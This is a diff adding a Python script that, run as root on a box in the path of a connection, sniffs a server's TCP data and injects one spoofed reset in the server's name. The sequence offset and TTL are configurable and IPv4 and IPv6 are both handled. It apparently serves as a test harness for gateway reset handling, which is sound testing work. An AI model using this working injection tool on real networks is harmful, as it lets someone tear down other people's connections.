@@ -1,0 +1,79 @@
+"""A box on the path forging a reset (run with Debian's /usr/bin/python3, as root).
+  forge.py IFACE SERVER_PORT TTL SEQ_OFFSET TRIGGER
+Watches IFACE for the server's data segments (source port SERVER_PORT) and, once
+file TRIGGER exists, sends one reset in the server's name to the client: flags R,
+seq = the server's snd.nxt + SEQ_OFFSET, TTL / hop limit TTL, as an Ethernet frame
+built from the server's last one, so it enters the gateway like any packet of the
+flow. Prints what it sent. IPv4 and IPv6."""
+import os
+import random
+import socket
+import struct
+import sys
+import time
+
+iface, server_port, ttl, offset, trigger = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), \
+    int(sys.argv[4]), sys.argv[5]
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL
+s.bind((iface, 0))
+s.settimeout(0.05)
+
+
+def csum(b):
+    if len(b) % 2:
+        b += b"\0"
+    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while t >> 16:
+        t = (t & 0xffff) + (t >> 16)
+    return ~t & 0xffff
+
+
+def server_data(frame):
+    """(version, src, dst, sport, dport, next seq) of a server data segment, else None."""
+    if len(frame) < 54:
+        return None
+    etype = struct.unpack("!H", frame[12:14])[0]
+    if etype == 0x0800 and frame[23] == 6:
+        ihl = (frame[14] & 0xf) * 4
+        payload = struct.unpack("!H", frame[16:18])[0] - ihl
+        v, src, dst, t = 4, frame[26:30], frame[30:34], 14 + ihl
+    elif etype == 0x86DD and frame[20] == 6:
+        payload = struct.unpack("!H", frame[18:20])[0]
+        v, src, dst, t = 6, frame[22:38], frame[38:54], 54
+    else:
+        return None
+    sport, dport, seq = struct.unpack("!HHI", frame[t:t + 8])
+    plen = payload - (frame[t + 12] >> 4) * 4
+    if sport != server_port or plen <= 0:
+        return None
+    return v, src, dst, sport, dport, (seq + plen) & 0xffffffff
+
+
+last = eth = None
+deadline = time.monotonic() + 60
+while not (os.path.exists(trigger) and last):
+    if time.monotonic() > deadline:
+        sys.exit("deadline: trigger or server data never came")
+    try:
+        frame = s.recv(65535)
+    except socket.timeout:
+        continue
+    seg = server_data(frame)
+    if seg:
+        last, eth = seg, frame[:14]
+
+v, src, dst, sport, dport, nxt = last
+seq = (nxt + offset) & 0xffffffff
+tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x04, 0, 0, 0)
+if v == 4:
+    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randrange(1, 65535),
+                     0, ttl, 6, 0, src, dst)
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+else:
+    pseudo = src + dst + struct.pack("!IxxxB", len(tcp), 6)
+    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, ttl, src, dst)
+s.send(eth + ip + tcp)
+print(f"forged R seq={seq} ttl={ttl} ({sport} -> {dport})", flush=True)
